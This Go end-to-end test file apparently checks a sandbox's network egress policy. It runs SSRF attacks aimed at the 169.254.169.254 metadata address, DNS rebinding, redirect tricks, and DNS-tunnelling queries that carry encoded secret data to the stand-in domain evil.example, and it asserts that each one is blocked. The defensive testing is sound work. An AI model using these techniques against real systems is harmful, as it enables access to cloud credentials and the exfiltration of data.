package e2e

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/miekg/dns"

	"github.com/moat-sandbox/moat/internal/lab"
	"github.com/moat-sandbox/moat/test/harness"
)

// hostileRecords are what the attacker's name servers say about names that the
// policy allows.
const hostileRecords = `
alias.test.    60 IN CNAME metadata.evil.example.
chain.test.    60 IN CNAME alias.test.
mixed.test.    60 IN A     10.0.0.1
mixed.test.    60 IN A     93.184.216.34
synthetic.test. 60 IN A    198.19.0.77
door.test.     60 IN A     198.19.255.1
mixed6.test.   60 IN AAAA  fd00:ec2::254
nat64.test.    60 IN AAAA  64:ff9b::a9fe:a9fe
cgnat.test.    60 IN A     100.64.0.1
`

// TestAttacksOnAddresses: attacks 14 to 17, by which an allowed name leads
// where nobody may go, and 18 to 20, by which the DNS itself is the way out.
// Every name is allowed, and every private range.
func TestAttacksOnAddresses(t *testing.T) {
	s := harness.Start(t, harness.Options{Lab: lab.Config{Records: hostileRecords}})
	box := withProber(t, s, only("*", "10.0.0.0/8", "127.0.0.0/8", "169.254.0.0/16", "198.18.0.0/15", "198.51.100.2", "fd00::/8"))
	for _, a := range []attack{
		{"TestAttack14NeverReachable", attack14},
		{"TestAttack15Rebinding", attack15},
		{"TestAttack17Redirect", attack17},
		{"TestAttack16TheNodeByName", attack16}, // changes the names there are
	} {
		t.Run(a.name, func(t *testing.T) { a.try(t, s, box) })
	}
	for _, p := range s.Lab.Packets() {
		if !p.To.IsGlobalUnicast() || p.To.IsPrivate() || synthetic.Contains(p.To) {
			t.Errorf("left the node: %s", p)
		}
	}
}

// TestAttacksOnDNS: attacks 18 to 20, from a sandbox to which one name is
// allowed.
func TestAttacksOnDNS(t *testing.T) {
	s := harness.Start(t, harness.Options{Lab: lab.Config{Records: hostileRecords}})
	box := withProber(t, s, only("example.com", "chain.test", "mixed.test", "*.rebind.test"))
	tryAll(t, s, box, []attack{
		{"TestAttack18Tunnelling", attack18},
		{"TestAttack19EncryptedDNS", attack19},
		{"TestAttack20SpoofedAnswers", attack20},
	})
}

func attack14(t *testing.T, s *harness.Server, box *harness.Box) {
	var targets []string
	for _, addr := range []string{
		"10.0.0.1", "127.0.0.1", "169.254.169.254", "172.16.0.1", "192.168.0.1", "100.64.0.1", "192.0.0.192", "198.18.0.1", "198.19.0.1", "198.19.255.1", "240.0.0.1",
		"255.255.255.255", "224.0.0.1", lab.NodeIP4.String(), "fd00:ec2::254", "fc00::1", "fe80::1", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", lab.NodeIP6.String(),
	} {
		for _, port := range []uint16{53, 80, 443, 8080} {
			targets = append(targets, "tcp:"+netip.AddrPortFrom(netip.MustParseAddr(addr), port).String())
		}
	}
	for target, o := range probe(t, box, targets...) {
		if o.Result == "answered" {
			t.Errorf("reached %s", target)
		}
	}
	// As a name server they are not there either.
	for target, o := range probe(t, box, "udp:169.254.169.253:53", "udp:10.0.0.2:53", "udp:198.19.255.1:53", "udp:198.19.255.1:18053") {
		if o.Result == "answered" {
			t.Errorf("%s answered", target)
		}
	}
}

// expectNever asks for a name over HTTP and TLS and expects that it leads to an
// address that is never reachable. At the address that the sandbox connects to
// nothing is allowed.
func expectNever(t *testing.T, s *harness.Server, box *harness.Box, name, addr string) {
	t.Helper()
	conn := mustDial(t, box, "tcp:"+attacker+":80")
	answer, body := request(t, conn, bufio.NewReader(conn), get(name, "/"))
	expectRefused(t, s, box, answer, body, addr+" is never reachable")
	_, err := handshake(t, s, mustDial(t, box, "tcp:"+attacker+":443"), &tls.Config{ServerName: name})
	if err == nil || err.Error() != "remote error: tls: access denied" {
		t.Errorf("%s: %v", name, err)
	}
	awaitRecord(t, s, box, name+" over TLS", func(r record) bool {
		return r.Protocol == "tls" && r.Name == name && r.Verdict == "deny" && r.Rule == "never" && strings.Contains(r.Reason, addr)
	})
}

// The address that is dialled is judged, not one that was looked up before.
func attack15(t *testing.T, s *harness.Server, box *harness.Box) {
	for name, addr := range map[string]string{
		"metadata.evil.example": "169.254.169.254", "loopback.evil.example": "", "private.evil.example": "10.0.0.1", "alias.test": "169.254.169.254",
		"chain.test": "169.254.169.254", "mixed6.test": "fd00:ec2::254", "nat64.test": "64:ff9b::a9fe:a9fe", "cgnat.test": "100.64.0.1",
		"synthetic.test": "198.19.0.77", "door.test": "198.19.255.1",
	} {
		expectNever(t, s, box, name, addr)
		for _, kind := range []uint16{dns.TypeA, dns.TypeAAAA} {
			if got := addresses(lookup(t, box, "udp", "8.8.8.8:53", name, kind)); len(got) != 0 {
				t.Errorf("%s resolves to %v", name, got)
			}
		}
	}
	// Of two addresses the one that may be reached is.
	conn := mustDial(t, box, "tcp:"+attacker+":80")
	if _, body := request(t, conn, bufio.NewReader(conn), get("mixed.test", "/")); body != "this is mixed.test at 93.184.216.34\n" {
		t.Errorf("mixed.test: %s", body)
	}
	// A name that changes with every answer: the attacker's own server, or nothing.
	for range 6 {
		conn := mustDial(t, box, "tcp:"+attacker+":80")
		answer, body := request(t, conn, bufio.NewReader(conn), get("rebind.evil.example", "/health"))
		if answer.StatusCode != 404 && answer.StatusCode != 403 {
			t.Errorf("rebind.evil.example: %d %s", answer.StatusCode, body)
		}
	}
}

// The server itself listens on all of the node's addresses.
func attack16(t *testing.T, s *harness.Server, box *harness.Box) {
	for name, addr := range map[string]string{
		"unspecified.evil.example": "", "mapped.evil.example": "::ffff:127.0.0.1", "node.evil.example": lab.NodeIP4.String(),
	} {
		expectNever(t, s, box, name, addr)
	}
	// An address that the node has got since the server started.
	const late = "9.8.7.6"
	if out, err := s.Lab.Node.Command(t.Context(), "ip", "address", "add", late+"/32", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if err := s.Lab.SetRecords("late.evil.example. 0 IN A " + late + "\n"); err != nil {
		t.Fatal(err)
	}
	expectNever(t, s, box, "late.evil.example", late)
}

// A redirect is for the client to follow, and what it asks for then is judged.
func attack17(t *testing.T, s *harness.Server, box *harness.Box) {
	conn := mustDial(t, box, "tcp:"+attacker+":80")
	answer, _ := request(t, conn, bufio.NewReader(conn), get("example.com", "/redirect?to=http://169.254.169.254/latest"))
	if answer.StatusCode != 302 || answer.Header.Get("Location") != "http://169.254.169.254/latest" {
		t.Errorf("the redirect: %d to %s", answer.StatusCode, answer.Header.Get("Location"))
	}
	for _, to := range []string{"http://169.254.169.254/", "http://metadata.evil.example/", "http://127.0.0.1:49983/health", "http://node.evil.example/health"} {
		got := box.Run(t, "curl -sfL -m 5 -o /dev/null 'http://example.com/redirect?to="+to+"'")
		if got.Code == 0 && !strings.Contains(to, "127.0.0.1") { // the sandbox's own loopback is its own
			t.Errorf("a redirect to %s was followed there", to)
		}
	}
}

// No question for a name that is not allowed leaves the node, whatever it is
// like, however it is asked and whoever is asked.
func attack18(t *testing.T, s *harness.Server, box *harness.Box) {
	before := len(s.Lab.Queries())
	const secret = "c2VjcmV0LWRhdGEtdGhhdC1zaG91bGQtbm90LWxlYXZlLXRoaXMtbWFjaGlu"
	names := []string{
		"evil.example", secret + ".evil.example", strings.Repeat(secret[:60]+".", 3) + "evil.example", secret + ".example.com", "example.com.evil.example",
		"xn--" + secret[:20] + ".evil.example", "_dmarc.evil.example", "1.0.0.127.in-addr.arpa", "4.3.2.1.evil.example",
	}
	kinds := []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeCNAME, dns.TypeHTTPS, dns.TypeANY, dns.TypeAXFR, 65280}
	for _, target := range []string{"udp:8.8.8.8:53", "tcp:1.1.1.1:53", "udp:" + attacker + ":53", "tcp:[" + attacker6 + "]:53"} {
		conn := mustDial(t, box, target)
		for _, name := range names {
			for _, kind := range kinds {
				ask(t, conn, new(dns.Msg).SetQuestion(dns.Fqdn(name), kind))
			}
		}
		// Two questions in one message, and other kinds of messages.
		two := new(dns.Msg).SetQuestion("example.com.", dns.TypeA)
		two.Question = append(two.Question, dns.Question{Name: secret + ".evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		ask(t, conn, two)
		chaos := new(dns.Msg).SetQuestion("example.com.", dns.TypeTXT)
		chaos.Question[0].Qclass = dns.ClassCHAOS
		ask(t, conn, chaos)
		update := new(dns.Msg).SetUpdate("evil.example.")
		ask(t, conn, update)
		conn.Close()
	}
	// Case is a channel, too, and so is what else a question carries.
	mixed := new(dns.Msg).SetQuestion("eXaMPle.CoM.", dns.TypeA)
	mixed.SetEdns0(4096, true)
	mixed.IsEdns0().Option = append(mixed.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(secret)})
	ask(t, mustDial(t, box, "udp:8.8.8.8:53"), mixed)
	for _, q := range s.Lab.Queries()[before:] {
		if q.Name != "example.com." || q.Type != "A" {
			t.Errorf("left the node: %s %s", q.Name, q.Type)
		}
	}
}

// Encrypted DNS is ordinary traffic that no entry allows.
func attack19(t *testing.T, s *harness.Server, box *harness.Box) {
	for target, o := range probe(t, box, "tcp:8.8.8.8:853", "tcp:1.1.1.1:853", "udp:8.8.8.8:853", "udp:8.8.8.8:443", "udp:1.1.1.1:443", "udp:8.8.8.8:5353", "tcp:8.8.8.8:5353") {
		if o.Result == "answered" {
			t.Errorf("%s answered", target)
		}
	}
	for name, addr := range map[string]string{"dns.google": "8.8.8.8", "cloudflare-dns.com": "1.1.1.1", "one.one.one.one": "1.1.1.1"} {
		_, err := handshake(t, s, mustDial(t, box, "tcp:"+addr+":443"), &tls.Config{ServerName: name})
		if err == nil || err.Error() != "remote error: tls: access denied" {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := handshake(t, s, mustDial(t, box, "tcp:8.8.8.8:443"), &tls.Config{InsecureSkipVerify: true}); err == nil {
		t.Error("DNS over HTTPS without a name")
	}
}

// Aliases may lead elsewhere; where nobody may go they do not lead. What the
// server adds to an answer is not believed.
func attack20(t *testing.T, s *harness.Server, box *harness.Box) {
	for name, want := range map[string][]string{"chain.test": nil, "mixed.test": {"93.184.216.34"}} {
		reply := lookup(t, box, "udp", "8.8.8.8:53", name, dns.TypeA)
		if got := addresses(reply); !slices.Equal(got, want) {
			t.Errorf("%s is %v, want %v", name, got, want)
		}
		if !strings.Contains(reply.String(), "is never reachable") {
			t.Errorf("%s: the reply does not say what was left out: %v", name, reply)
		}
	}
	awaitRecord(t, s, box, "the answer that was left out", func(r record) bool {
		return r.Protocol == "dns" && r.Name == "chain.test" && r.Verdict == "deny" && strings.Contains(r.Reason, "169.254.169.254")
	})
	// Answers that nobody asked for do not get in: whatever comes from a name
	// server that is not ours meets no flow.
	for i := range 3 {
		conn := mustDial(t, box, fmt.Sprintf("udp:%s:53", []string{attacker, "8.8.8.8", "9.9.9.9"}[i]))
		if got := addresses(ask(t, conn, new(dns.Msg).SetQuestion("example.com.", dns.TypeA))); !slices.Equal(got, []string{"93.184.216.34"}) {
			t.Errorf("example.com is %v", got)
		}
	}
}
